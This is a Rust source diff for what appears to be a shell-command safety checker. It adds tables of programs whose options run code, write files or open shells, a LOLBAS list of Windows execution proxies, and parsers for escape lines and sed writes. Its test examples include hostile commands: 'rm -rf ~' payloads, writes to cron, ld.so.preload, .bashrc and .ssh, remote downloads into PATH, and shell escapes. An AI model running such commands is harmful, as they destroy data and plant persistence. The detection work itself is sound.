@@ -40,6 +40,9 @@ pub enum Run {
     Opaque,
     /// A make fragment (`--eval`): `$(shell ..)` and recipe lines run.
     Make,
+    /// Code in the program's language: the commands its spawn calls,
+    /// backticks and `$(..)` carry are analysed (no prompt by itself).
+    Code,
 }
 
 /// An option whose value is executed. `sub` restricts it to a subcommand
@@ -58,6 +61,34 @@ const fn o(opt: &'static str, run: Run) -> ExecOpt {
 
 const fn so(sub: &'static str, opt: &'static str, run: Run) -> ExecOpt {
     ExecOpt { sub, opt, run }
+}
+
+/// An option whose value is a file the program writes (`sort -o FILE`);
+/// `sub` restricts it to a subcommand (`git apply --directory`).
+#[derive(Clone, Copy, Debug)]
+pub struct WriteOpt {
+    pub sub: &'static str,
+    pub opt: &'static str,
+}
+
+const fn w(opt: &'static str) -> WriteOpt {
+    WriteOpt { sub: "", opt }
+}
+
+const fn sw(sub: &'static str, opt: &'static str) -> WriteOpt {
+    WriteOpt { sub, opt }
+}
+
+/// Which operands a program writes.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Writes {
+    /// None (or as its options say).
+    No,
+    /// Every file operand (an editor, `setfacl`).
+    All,
+    /// The last operand when there are two or more (`xxd -r IN OUT`,
+    /// `split IN PREFIX`, `lwp-download URL FILE`).
+    Last,
 }
 
 /// What a program's entry says.
@@ -81,6 +112,32 @@ pub struct Program {
     pub global_flags: &'static [&'static str],
     /// Options that attach to another process (`gdb -p`, `strace -p`).
     pub attach_opts: &'static [&'static str],
+    /// Options whose value is a file (or directory) the program writes.
+    pub writes: &'static [WriteOpt],
+    /// Operands the program writes.
+    pub writes_operands: Writes,
+    /// Fixed files the program edits (`vipw`: /etc/passwd).
+    pub edits: &'static [&'static str],
+    /// Reads a command language (on stdin, or in `-c`/`-e` arguments)
+    /// whose escape lines run shell commands: `!cmd` (pagers, ftp
+    /// clients, debuggers), `\! cmd` (database clients), `.shell cmd`,
+    /// `shell cmd` (see [`escape_command`]).
+    pub interactive: bool,
+    /// Single keys on its stdin that open a shell (`ncdu`: `b`).
+    pub shell_keys: &'static [&'static str],
+    /// Starts an interactive shell when it is given no command: how many
+    /// operands come before the command (`chroot DIR [CMD]`: 1).
+    pub starts_shell: Option<usize>,
+    /// Options that take a value (for counting operands), and options that
+    /// make it run no shell at all (`screen -ls`).
+    pub value_opts: &'static [&'static str],
+    pub no_shell_opts: &'static [&'static str],
+    /// When non-empty, only these subcommands start the shell (`tmux new`).
+    pub shell_subs: &'static [&'static str],
+    /// Files it reads from the working directory (or a directory operand)
+    /// and runs code from (`package.json` scripts, a `Vagrantfile`, `*.tf`):
+    /// written by the same command line, their content is judged.
+    pub runs_config: &'static [&'static str],
     /// (command, true when it must not be allowed): checked by the tests.
     pub examples: &'static [(&'static str, bool)],
 }
@@ -95,6 +152,16 @@ const NONE: Program = Program {
     installs: &[],
     global_flags: &[],
     attach_opts: &[],
+    writes: &[],
+    writes_operands: Writes::No,
+    edits: &[],
+    interactive: false,
+    shell_keys: &[],
+    starts_shell: None,
+    value_opts: &[],
+    no_shell_opts: &[],
+    shell_subs: &[],
+    runs_config: &[],
     examples: &[],
 };
 
@@ -166,6 +233,7 @@ pub static PROGRAMS: &[Program] = &[
             so("rebase", "-x", Shell),
             so("rebase", "--exec", Shell),
         ],
+        writes: &[sw("apply", "--directory")],
         examples: &[
             ("git difftool -x 'rm -rf ~' HEAD", true),
             ("git grep -O'id' foo", true),
@@ -207,6 +275,7 @@ pub static PROGRAMS: &[Program] = &[
     Program {
         names: &["sort"],
         exec_opts: &[o("--compress-program", Program)],
+        writes: &[w("-o"), w("--output")],
         examples: &[
             ("sort --compress-program=/tmp/x f", true),
             ("sort -u f", false),
@@ -224,6 +293,7 @@ pub static PROGRAMS: &[Program] = &[
     },
     Program {
         names: &["man"],
+        interactive: true,
         exec_opts: &[
             o("-P", Shell),
             o("--pager", Shell),
@@ -242,6 +312,10 @@ pub static PROGRAMS: &[Program] = &[
     Program {
         names: &["scp", "sftp"],
         exec_opts: &[o("-S", Program)],
+        writes_operands: Writes::Last,
+        value_opts: &[
+            "-i", "-P", "-o", "-F", "-c", "-l", "-S", "-J", "-b", "-B", "-R", "-s", "-D",
+        ],
         examples: &[
             ("scp -S /tmp/x a h:b", true),
             ("scp h:b .", false),
@@ -261,6 +335,8 @@ pub static PROGRAMS: &[Program] = &[
     Program {
         names: &["wget", "wget2"],
         exec_opts: &[o("--use-askpass", Program)],
+        // the log files (-O is judged by the rules)
+        writes: &[w("-o"), w("--output-file"), w("-a"), w("--append-output")],
         examples: &[
             ("wget --use-askpass=/tmp/x http://h/", true),
             ("wget -q https://example.com/a.tgz", false),
@@ -270,17 +346,36 @@ pub static PROGRAMS: &[Program] = &[
     Program {
         names: &["tcpdump"],
         exec_opts: &[o("-z", Program)],
+        writes: &[w("-w")],
         examples: &[("tcpdump -w x -G 1 -z /tmp/x", true)],
         ..NONE
     },
     Program {
         names: &["emacs", "emacsclient"],
         exec_opts: &[o("--eval", Opaque), o("-eval", Opaque)],
+        writes_operands: Writes::All,
+        value_opts: &[
+            "--eval",
+            "-eval",
+            "-l",
+            "--load",
+            "-f",
+            "--funcall",
+            "-t",
+            "--terminal",
+        ],
         examples: &[("emacs --batch --eval '(shell-command \"id\")'", true)],
         ..NONE
     },
     Program {
-        names: &["rpm"],
+        names: &[
+            "rpm",
+            "rpmdb",
+            "rpmquery",
+            "rpmverify",
+            "rpmspec",
+            "rpmbuild",
+        ],
         exec_opts: &[o("--eval", Opaque), o("-E", Opaque)],
         installs: &["-i", "-U", "--install", "--upgrade", "-F", "--freshen"],
         examples: &[
@@ -291,7 +386,12 @@ pub static PROGRAMS: &[Program] = &[
     },
     Program {
         names: &["npm", "pnpm", "yarn", "bun"],
-        exec_opts: &[o("--script-shell", Program)],
+        exec_opts: &[
+            o("--script-shell", Program),
+            so("exec", "-c", Shell),
+            so("exec", "--call", Shell),
+        ],
+        runs_config: &["package.json"],
         installs: &["global"],
         global_flags: &["-g", "--global", "--location=global"],
         examples: &[
@@ -306,6 +406,8 @@ pub static PROGRAMS: &[Program] = &[
     Program {
         names: &["less"],
         exec_opts: &[o("+!", Shell)],
+        writes: &[w("-o"), w("-O"), w("--log-file"), w("--LOG-FILE")],
+        interactive: true,
         examples: &[("less +'!id' f", true), ("less +F log", false)],
         ..NONE
     },
@@ -329,6 +431,7 @@ pub static PROGRAMS: &[Program] = &[
     Program {
         names: &["ed", "red"],
         stdin_bang_script: true,
+        writes_operands: Writes::All,
         examples: &[("ed f <<< '!id'", true), ("ed -s f <<< 'w'", false)],
         ..NONE
     },
@@ -399,7 +502,7 @@ pub static PROGRAMS: &[Program] = &[
     },
     Program {
         names: &[
-            "snap", "flatpak", "port", "emerge", "nix-env", "pkg", "pkg_add",
+            "snap", "flatpak", "port", "emerge", "nix-env", "pkg", "pkg_add", "opkg",
         ],
         installs: &["install", "-i", "--install", "refresh", "upgrade"],
         examples: &[("snap install code --classic", true)],
@@ -407,24 +510,440 @@ pub static PROGRAMS: &[Program] = &[
     },
     Program {
         names: &["gem"],
+        exec_opts: &[so("open", "-e", Shell), so("open", "--editor", Shell)],
         installs: &["install", "update"],
         examples: &[],
         ..NONE
     },
     Program {
-        names: &["pip", "pip3", "pip2"],
+        names: &["pip", "pip3", "pip2", "easy_install"],
         installs: &["install"],
+        runs_config: &["setup.py"],
         examples: &[("pip install --user x", true)],
         ..NONE
     },
     Program {
         names: &["gdb", "cgdb", "lldb", "strace", "ltrace", "perf"],
         attach_opts: &["-p", "--pid", "--attach-pid", "-P"],
+        writes: &[w("-o"), w("--output")],
+        interactive: true,
         examples: &[
             ("gdb -p 1234", true),
             ("strace -p 1", true),
             ("strace ls", false),
         ],
+        ..NONE
+    },
+    Program {
+        names: &[
+            "vim", "vi", "nvim", "gvim", "view", "vimdiff", "rvim", "rview", "ex", "evim",
+        ],
+        // `-c ':w FILE'` is found by the write rules; `:!cmd` by the
+        // option payloads
+        writes_operands: Writes::All,
+        value_opts: &[
+            "-c", "--cmd", "-S", "-u", "-U", "-i", "-T", "-t", "-q", "-w", "-W", "-s",
+        ],
+        interactive: true,
+        examples: &[
+            ("vim -c ':w! /etc/cron.d/job' -c ':q!' x", true),
+            ("vim ~/.bashrc", true),
+            ("vim src/main.rs", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &[
+            "nano", "pico", "joe", "jmacs", "jpico", "mcedit", "micro", "kak", "hx",
+        ],
+        exec_opts: &[o("-s", Program), o("--speller", Program)],
+        writes_operands: Writes::All,
+        value_opts: &[
+            "-s",
+            "--speller",
+            "-Y",
+            "--syntax",
+            "-T",
+            "--tabsize",
+            "-o",
+            "-r",
+        ],
+        interactive: true,
+        examples: &[
+            ("nano -s /bin/sh f", true),
+            ("nano ~/.profile", true),
+            ("nano README.md", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["more", "most", "pg", "info", "pinfo"],
+        interactive: true,
+        examples: &[("more f <<< '!/bin/sh'", true), ("more README.md", false)],
+        ..NONE
+    },
+    Program {
+        names: &[
+            "ncftp",
+            "lftp",
+            "psftp",
+            "tftp",
+            "telnet",
+            "smbclient",
+            "mysql",
+            "mariadb",
+            "sqlite3",
+            "mongo",
+            "mongosh",
+            "dc",
+            "debugfs",
+            "mail",
+            "mailx",
+        ],
+        interactive: true,
+        examples: &[
+            ("ftp <<< '!/bin/sh'", true),
+            ("mysql -e '\\! rm -rf ~'", true),
+            ("sqlite3 db '.shell sh'", true),
+            ("dc -e '!id; rm -rf ~'", true),
+            ("psql -c 'select 1'", false),
+            ("sqlite3 app.db 'select * from t'", false),
+            ("dc -e '2 3 + p'", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["ftp", "psql"],
+        writes: &[w("-o"), w("--output")],
+        interactive: true,
+        examples: &[
+            ("ftp -o /etc/cron.d/job http://h/x", true),
+            ("psql -c '\\! sh'", true),
+            ("psql -o out.txt -c 'select 1'", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["top", "htop"],
+        runs_config: &["toprc"],
+        examples: &[("top -b -n 1", false)],
+        ..NONE
+    },
+    Program {
+        names: &["ncdu"],
+        shell_keys: &["b"],
+        examples: &[("ncdu <<< b", true), ("ncdu -x .", false)],
+        ..NONE
+    },
+    Program {
+        names: &["chroot"],
+        starts_shell: Some(1),
+        value_opts: &["--userspec", "--groups"],
+        examples: &[("chroot /", true), ("chroot /srv/root /bin/true", false)],
+        ..NONE
+    },
+    Program {
+        names: &["capsh"],
+        starts_shell: Some(0),
+        examples: &[("capsh --", true)],
+        ..NONE
+    },
+    Program {
+        names: &["sg", "newgrp"],
+        starts_shell: Some(1),
+        no_shell_opts: &["-c"],
+        examples: &[("sg docker", true), ("sg docker -c 'docker ps'", false)],
+        ..NONE
+    },
+    Program {
+        names: &["screen"],
+        starts_shell: Some(0),
+        value_opts: &["-S", "-c", "-e", "-h", "-p", "-T", "-t", "-Logfile", "-s"],
+        no_shell_opts: &[
+            "-ls",
+            "-list",
+            "-r",
+            "-R",
+            "-x",
+            "-X",
+            "-Q",
+            "-v",
+            "-h",
+            "--help",
+            "--version",
+            "-wipe",
+            "-d",
+            "-D",
+            "-dm",
+            "-dmS",
+            "-Dm",
+            "-DmS",
+        ],
+        writes: &[w("-Logfile")],
+        examples: &[
+            ("screen", true),
+            ("screen -ls", false),
+            ("screen -dmS build make", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["tmux"],
+        starts_shell: Some(0),
+        shell_subs: &[
+            "",
+            "new",
+            "new-session",
+            "neww",
+            "new-window",
+            "splitw",
+            "split-window",
+        ],
+        value_opts: &[
+            "-L", "-S", "-f", "-c", "-s", "-n", "-t", "-x", "-y", "-F", "-e",
+        ],
+        // detached (`-d`): the session's shell reads nothing until attached
+        no_shell_opts: &["-V", "--help", "-d"],
+        examples: &[
+            ("tmux", true),
+            ("tmux new -d -s dev", false),
+            ("tmux ls", false),
+            ("tmux new-session -d -s dev 'npm run dev'", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["script"],
+        starts_shell: Some(1),
+        value_opts: &[
+            "-c",
+            "--command",
+            "-t",
+            "--timing",
+            "-T",
+            "-I",
+            "-O",
+            "-B",
+            "-E",
+            "-o",
+        ],
+        no_shell_opts: &["-c", "--command", "-V", "--version", "-h", "--help"],
+        writes_operands: Writes::All,
+        examples: &[
+            ("script -q /dev/null", true),
+            ("script -q -c 'echo x' ~/.bashrc", true),
+            ("script -q -c 'make test' build.log", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["setfacl"],
+        writes_operands: Writes::All,
+        value_opts: &[
+            "-m",
+            "-x",
+            "-M",
+            "-X",
+            "--set",
+            "--set-file",
+            "--modify",
+            "--remove",
+        ],
+        examples: &[
+            ("setfacl -m u:me:rwx /etc/shadow", true),
+            ("setfacl -m u:me:rw data/", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["vipw"],
+        edits: &["/etc/passwd", "/etc/shadow"],
+        examples: &[("vipw", true)],
+        ..NONE
+    },
+    Program {
+        names: &["vigr"],
+        edits: &["/etc/group", "/etc/gshadow"],
+        examples: &[("vigr", true)],
+        ..NONE
+    },
+    Program {
+        names: &["visudo"],
+        edits: &["/etc/sudoers"],
+        examples: &[("visudo", true)],
+        ..NONE
+    },
+    Program {
+        names: &["csplit"],
+        writes: &[w("-f"), w("--prefix")],
+        examples: &[
+            ("csplit -f ~/.ssh/x in 1", true),
+            ("csplit -f part in 1", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["split"],
+        exec_opts: &[o("--filter", Shell)],
+        writes_operands: Writes::Last,
+        value_opts: &["-a", "-b", "-C", "-l", "-n", "-t", "--additional-suffix"],
+        examples: &[
+            ("split --filter='rm -rf ~' f", true),
+            ("split -b 9m - /etc/cron.d/x", true),
+            ("split -l 100 data.csv part-", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["shuf", "iconv", "pandoc", "openssl"],
+        writes: &[w("-o"), w("--output"), w("-out")],
+        examples: &[
+            ("shuf -e x -o /etc/cron.d/job", true),
+            ("openssl enc -in a -out /home/u/.bashrc", true),
+            ("pandoc README.md -o out.html", false),
+            ("openssl rand -hex 16 -out key.txt", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &[
+            "gcc", "g++", "cc", "c++", "clang", "clang++", "c89", "c99", "tcc",
+        ],
+        exec_opts: &[o("-wrapper", Program)],
+        writes: &[w("-o")],
+        examples: &[
+            ("gcc -E x.c -o /etc/ld.so.preload", true),
+            ("gcc -O2 -o build/app main.c", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["xxd", "lwp-download", "tftp-hpa"],
+        writes_operands: Writes::Last,
+        value_opts: &["-c", "-g", "-l", "-s", "-o", "-n", "-C", "-a"],
+        examples: &[
+            ("xxd -r - /usr/local/bin/git", true),
+            ("xxd -r dump.hex out.bin", false),
+            ("xxd file.bin", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["rlwrap"],
+        writes: &[w("-l"), w("--logfile")],
+        examples: &[("rlwrap -l ~/.bashrc cat", true)],
+        ..NONE
+    },
+    Program {
+        names: &["aria2c"],
+        writes: &[w("-o"), w("--out"), w("-d"), w("--dir")],
+        examples: &[
+            ("aria2c -o ~/.local/bin/ls http://h/x", true),
+            ("aria2c -d downloads https://h/x.iso", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["ssh-keygen"],
+        exec_opts: &[o("-D", Program)],
+        examples: &[
+            ("ssh-keygen -D ./lib.so", true),
+            ("ssh-keygen -lf k.pub", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["ansible-test"],
+        starts_shell: Some(0),
+        shell_subs: &["shell"],
+        examples: &[("ansible-test shell", true), ("ansible-test units", false)],
+        ..NONE
+    },
+    Program {
+        names: &["ghc", "ghci", "runghc", "runhaskell"],
+        exec_opts: &[o("-e", Code)],
+        interactive: true,
+        examples: &[
+            ("ghc -e 'System.Process.callCommand \"rm -rf ~\"'", true),
+            ("ghc -e 'print 1'", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["rake"],
+        exec_opts: &[
+            o("-p", Code),
+            o("--execute-print", Code),
+            o("-e", Code),
+            o("--execute", Code),
+            o("-E", Code),
+            o("--execute-continue", Code),
+        ],
+        examples: &[("rake -p '`rm -rf ~`'", true), ("rake test", false)],
+        ..NONE
+    },
+    Program {
+        names: &["dotnet"],
+        interactive: true,
+        examples: &[
+            (
+                "dotnet fsi <<< 'System.Diagnostics.Process.Start(\"/bin/sh\")'",
+                true,
+            ),
+            ("dotnet build", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["redis-cli"],
+        // `config set dir DIR` / `config set dbfilename FILE`: `save` writes there
+        writes: &[w("dir"), w("dbfilename")],
+        examples: &[
+            ("redis-cli config set dir /home/u/.ssh/", true),
+            ("redis-cli get key", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["update-alternatives"],
+        writes: &[w("--install")],
+        examples: &[
+            (
+                "update-alternatives --install /usr/local/bin/x x /tmp/x 0",
+                true,
+            ),
+            ("update-alternatives --list java", false),
+        ],
+        ..NONE
+    },
+    Program {
+        names: &["composer"],
+        runs_config: &["composer.json"],
+        examples: &[],
+        ..NONE
+    },
+    Program {
+        names: &["vagrant"],
+        runs_config: &["Vagrantfile"],
+        examples: &[],
+        ..NONE
+    },
+    Program {
+        names: &["terraform", "tofu", "terragrunt"],
+        runs_config: &["*.tf", "*.tf.json", "*.hcl"],
+        examples: &[],
+        ..NONE
+    },
+    Program {
+        names: &["ansible-playbook", "ansible"],
+        runs_config: &["*.yml", "*.yaml"],
+        examples: &[],
+        ..NONE
+    },
+    Program {
+        names: &["rtorrent"],
+        runs_config: &[".rtorrent.rc"],
+        examples: &[],
         ..NONE
     },
     Program {
@@ -434,6 +953,387 @@ pub static PROGRAMS: &[Program] = &[
         ..NONE
     },
 ];
+
+/// A Windows binary, library or script that proxies execution, downloads
+/// or uploads (LOLBAS): when a use of it asks, and under which rule.
+#[derive(Clone, Copy, Debug)]
+pub struct WinProgram {
+    /// Lowercase basenames without `.exe` (scripts keep their extension).
+    pub names: &'static [&'static str],
+    /// Every use asks (its uses are proxies: `mshta`, `installutil`, ...).
+    pub any: bool,
+    /// Options or words that make it run or move code, lowercase without
+    /// the leading `/`, `-` or `--` (`urlcache`, `processstart`); a
+    /// trailing `*` matches as a prefix, a leading `*` as a suffix of the
+    /// argument (`*.xml`).
+    pub when: &'static [&'static str],
+    /// A URL or UNC path in the statement makes it a transfer.
+    pub remote: bool,
+    /// A script whose mere naming in a statement runs it (`. CL_Invocation.ps1`).
+    pub script: bool,
+    /// The rule key it asks under.
+    pub rule: &'static str,
+}
+
+const WNONE: WinProgram = WinProgram {
+    names: &[],
+    any: false,
+    when: &[],
+    remote: false,
+    script: false,
+    rule: "lolbas-proxy",
+};
+
+/// LOLBAS binaries, libraries and scripts the engine knows (besides the
+/// ones [`crate::catalog`] judges with their own logic: certutil,
+/// bitsadmin, regsvr32, rundll32's libraries, msiexec, wmic, ...).
+pub static WINDOWS: &[WinProgram] = &[
+    WinProgram {
+        names: &[
+            "addinutil",
+            "atbroker",
+            "aspnet_compiler",
+            "cmstp",
+            "customshellhost",
+            "diskshadow",
+            "extexport",
+            "gpscript",
+            "ie4uinit",
+            "iediagcmd",
+            "ieexec",
+            "infdefaultinstall",
+            "installutil",
+            "mavinject",
+            "microsoft.workflow.compiler",
+            "msconfig",
+            "msdt",
+            "msxsl",
+            "odbcconf",
+            "offlinescannershell",
+            "pcalua",
+            "pcwrun",
+            "presentationhost",
+            "provlaunch",
+            "rasautou",
+            "regasm",
+            "regsvcs",
+            "register-cimprovider",
+            "runexehelper",
+            "runonce",
+            "runscripthelper",
+            "scriptrunner",
+            "settingsynchost",
+            "syncappvpublishingserver",
+            "ttdinject",
+            "tttracer",
+            "unregmp2",
+            "verclsid",
+            "wab",
+            "wlrmdr",
+            "wuauclt",
+            "xwizard",
+            "cscript",
+            "wscript",
+            "mshta",
+            "acccheckconsole",
+            "adplus",
+            "agentexecutor",
+            "appcert",
+            "appvlp",
+            "bginfo",
+            "cdb",
+            "coregen",
+            "csi",
+            "defaultpack",
+            "devinit",
+            "devtoolslauncher",
+            "dnx",
+            "dxcap",
+            "ecmangen",
+            "fsi",
+            "fsianycpu",
+            "mftrace",
+            "microsoft.nodejstools.pressanykey",
+            "msdeploy",
+            "openconsole",
+            "rcsi",
+            "remote",
+            "sqltoolsps",
+            "sqlps",
+            "te",
+            "testwindowremoteagent",
+            "tracker",
+            "vsdiagnostics",
+            "vsiisexelauncher",
+            "vslaunchbrowser",
+            "xbootmgrsleep",
+            "vsls-agent",
+            "winfile",
+            "vsjitdebugger",
+            "desktopimgdownldr",
+            "imewdbld",
+            "cmdl32",
+            "certoc",
+            "datasvcutil",
+            "configsecuritypolicy",
+            "printbrm",
+            "finger",
+            "at",
+            "rundll32",
+            "pester",
+            "wsreset",
+            "hh",
+        ],
+        any: true,
+        ..WNONE
+    },
+    WinProgram {
+        names: &[
+            "excel",
+            "winword",
+            "powerpnt",
+            "mspub",
+            "msaccess",
+            "visio",
+            "winproj",
+            "msohtmed",
+            "protocolhandler",
+            "xsd",
+            "dotnet",
+            "vstest.console",
+            "findstr",
+            "print",
+            "makecab",
+            "diantz",
+            "type",
+            "expand",
+            "extrac32",
+            "replace",
+            "esentutl",
+        ],
+        remote: true,
+        ..WNONE
+    },
+    WinProgram {
+        names: &["msbuild"],
+        remote: true,
+        // a project that is not a project file (an inline task in `x.xml`)
+        when: &["*.xml", "*.txt", "*.dat", "*.log"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["msedge", "chrome", "teams", "code"],
+        remote: true,
+        when: &[
+            "gpu-launcher*",
+            "renderer-cmd-prefix*",
+            "utility-cmd-prefix*",
+            "browser-subprocess-path*",
+            "dump-dom",
+        ],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["start"],
+        when: &["ms-appinstaller:*", "search-ms:*", "ms-msdt:*"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["control"],
+        when: &["*.dll"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["conhost"],
+        when: &["headless", "*.exe"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["explorer"],
+        when: &["root,*"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["mmc"],
+        when: &["embedding"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["pnputil"],
+        when: &["i", "a", "add-driver", "install"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["vshadow"],
+        when: &["exec=*", "exec"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["mpcmdrun"],
+        when: &["downloadfile"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["certreq"],
+        when: &["post", "config"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["bash", "wsl"],
+        when: &["c", "e", "exec", "u", "user"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["ftp"],
+        when: &["s:*"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["netsh"],
+        when: &["helper"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["dnscmd"],
+        when: &["serverlevelplugindll"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["wmic"],
+        when: &["format:*", "format"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["winget"],
+        when: &["manifest", "m"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["ssh", "sftp", "scp"],
+        when: &["proxycommand=*", "localcommand=*", "permitlocalcommand=*"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["squirrel", "update"],
+        when: &[
+            "download",
+            "update",
+            "updaterollback",
+            "processstart",
+            "processstartandwait",
+            "createshortcut",
+        ],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["winrm"],
+        when: &["invoke"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["devtunnel"],
+        when: &["host"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["procdump"],
+        when: &["md"],
+        ..WNONE
+    },
+    WinProgram {
+        names: &["schtasks", "sc"],
+        when: &["create", "change", "config"],
+        rule: "service-persistence",
+        ..WNONE
+    },
+    WinProgram {
+        names: &["invoke-webrequest", "invoke-restmethod", "iwr", "irm"],
+        when: &["infile"],
+        rule: "exfiltration",
+        ..WNONE
+    },
+    WinProgram {
+        names: &[
+            "cl_invocation.ps1",
+            "cl_mutexverifiers.ps1",
+            "cl_loadassembly.ps1",
+            "utilityfunctions.ps1",
+            "launch-vsdevshell.ps1",
+            "pubprn.vbs",
+            "manage-bde.wsf",
+            "syncappvpublishingserver.vbs",
+            "winrm.vbs",
+        ],
+        script: true,
+        ..WNONE
+    },
+];
+
+/// Whether a Windows statement (`name`, its arguments, its text) uses a
+/// LOLBAS binary, library or script to run or move code: the rule key and
+/// what it does.
+pub fn win_lolbas(name: &str, args: &[String], text: &str) -> Option<(&'static str, String)> {
+    let name = name.to_ascii_lowercase();
+    let lc: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+    let base = |w: &str| {
+        w.rsplit(['/', '\\'])
+            .next()
+            .unwrap_or(w)
+            .trim_matches(|c| c == '"' || c == '\'')
+            .to_string()
+    };
+    for p in WINDOWS {
+        if p.script {
+            if let Some(s) = std::iter::once(&name)
+                .chain(lc.iter())
+                .map(|w| base(w))
+                .find(|w| p.names.contains(&w.as_str()))
+            {
+                return Some((p.rule, format!("runs the Windows script {s} (LOLBAS)")));
+            }
+            continue;
+        }
+        if !p.names.contains(&name.as_str()) {
+            continue;
+        }
+        if p.any {
+            return Some((
+                p.rule,
+                format!("{name} loads and runs code it is given (LOLBAS)"),
+            ));
+        }
+        let hit = lc.iter().find(|a| {
+            let w = a.trim_start_matches(['/', '-']);
+            p.when.iter().any(|t| {
+                if let Some(suf) = t.strip_prefix('*') {
+                    a.trim_end_matches(['"', '\'']).ends_with(suf)
+                } else if let Some(pre) = t.strip_suffix('*') {
+                    w.starts_with(pre)
+                } else {
+                    w == *t
+                        || w.strip_prefix(t)
+                            .is_some_and(|r| r.starts_with([':', '=', ',']))
+                }
+            })
+        });
+        if let Some(h) = hit {
+            return Some((p.rule, format!("{name} {h}: runs or moves code (LOLBAS)")));
+        }
+        let lt = text.to_ascii_lowercase();
+        if p.remote
+            && (lt.contains("http://")
+                || lt.contains("https://")
+                || lt.contains("ftp://")
+                || lt.contains("\\\\"))
+        {
+            return Some((
+                p.rule,
+                format!("{name} reads or writes a remote file (LOLBAS)"),
+            ));
+        }
+    }
+    None
+}
 
 /// The entry of a program (by basename).
 pub fn program(name: &str) -> Option<&'static Program> {
@@ -454,6 +1354,9 @@ pub fn program(name: &str) -> Option<&'static Program> {
 /// wrapper handling, shells and interpreters are known too (see
 /// [`is_known`]).
 pub static INERT: &[&str] = &[
+    // the script a shell reads is judged by its content (judge_scripts)
+    "source",
+    ".",
     // text and files
     "echo",
     "printf",
@@ -657,7 +1560,6 @@ pub static INERT: &[&str] = &[
     "psql",
     "mysql",
     "mariadb",
-    "redis-cli",
     "mongo",
     "mongosh",
     "openssl",
@@ -963,6 +1865,38 @@ pub fn git_code_key(key: &str, value: &str) -> Option<Run> {
     opaque.then_some(Opaque)
 }
 
+/// The shell command of an escape line in an interactive program's
+/// command language: `!cmd` (pagers, ftp clients, debuggers, `ed`, `dc`,
+/// vi's `:!cmd`), `\! cmd` (`mysql`, `psql`), `.shell cmd` / `.system
+/// cmd` (`sqlite3`), `shell cmd` (`gdb`, `scanmem`, `jtag`), `@exec cmd`
+/// (`bconsole`), `^K!cmd` (`joe`), `~!cmd` (`mail`).
+pub fn escape_command(line: &str) -> Option<&str> {
+    let t = line.trim_start();
+    let t = t.strip_prefix(':').map_or(t, str::trim_start);
+    // pic/groff: `sh X cmd X` (X any delimiter)
+    if let Some(r) = t.strip_prefix("sh ")
+        && let Some(d) = r.chars().next()
+        && !d.is_whitespace()
+        && r[d.len_utf8()..].starts_with(' ')
+        && r.trim_end().ends_with(d)
+        && r.trim_end().len() > 2 * d.len_utf8()
+    {
+        let body = &r.trim_end()[d.len_utf8()..r.trim_end().len() - d.len_utf8()];
+        return Some(body.trim()).filter(|b| !b.is_empty());
+    }
+    let rest = ["\\!", "^K!", "~!", "!"]
+        .iter()
+        .find_map(|p| t.strip_prefix(p))
+        .or_else(|| {
+            [".shell ", ".system ", "shell ", "@exec "]
+                .iter()
+                .find_map(|p| t.strip_prefix(p))
+        })?;
+    let rest = rest.trim();
+    // `!!` repeats the last command; `!=` is a comparison
+    (!rest.is_empty() && !rest.starts_with(['!', '='])).then_some(rest)
+}
+
 /// Commands run by a sed script: the `e COMMAND` command and the `s///e`
 /// flag (which runs the pattern space, i.e. the replacement or the input
 /// line). Returns the visible command text when there is one, `""` when
@@ -1028,6 +1962,61 @@ pub fn sed_exec(script: &str) -> Vec<String> {
             if flags.contains('e') {
                 let repl = parts[1].replace(&format!("\\{d}"), &d.to_string());
                 out.push(repl);
+            }
+        }
+    }
+    out
+}
+
+/// Files a sed script writes: the `w FILE` command and the `s///w FILE`
+/// flag.
+pub fn sed_write_files(script: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for line in script.lines() {
+        let pieces: Vec<&str> = if line
+            .trim_start()
+            .trim_start_matches(|c: char| c.is_ascii_digit() || c == ',' || c == '$')
+            .starts_with('s')
+        {
+            vec![line]
+        } else {
+            line.split(';').collect()
+        };
+        for cmd in pieces {
+            let t = cmd.trim_start_matches(|c: char| {
+                c.is_ascii_digit() || c == '$' || c == ',' || c == ' ' || c == '!'
+            });
+            if let Some(f) = t.strip_prefix("w ").or_else(|| t.strip_prefix("W ")) {
+                out.push(f.trim().to_string());
+                continue;
+            }
